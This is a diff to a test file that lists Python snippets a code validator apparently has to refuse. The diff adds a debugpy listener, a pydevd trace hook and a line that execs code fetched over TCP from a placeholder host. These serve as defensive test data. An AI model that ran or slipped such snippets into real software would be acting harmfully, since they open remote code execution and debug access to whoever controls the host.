@@ -58,6 +58,9 @@ def test_what_libraries_do_for_whoever_asks_is_refused_where_nobody_does(text: s
     [
         "import torch\ntorch.hub.load('.', 'c', source='local')",
         "import torch\ntorch.load('weights.pt')",
+        "import debugpy\ndebugpy.listen(5678)",
+        "import pydevd\npydevd.settrace()",
+        "import queue_client\nexec(queue_client.Client('tcp://' + HOST + ':1').get('x'))",
         "import pandas\npandas.read_csv('http://a.example.invalid/x').head()",
         "from transformers import pipeline\npipeline(model='a/b', trust_remote_code=False)",
         "import joblib\njoblib.load('model.joblib')",
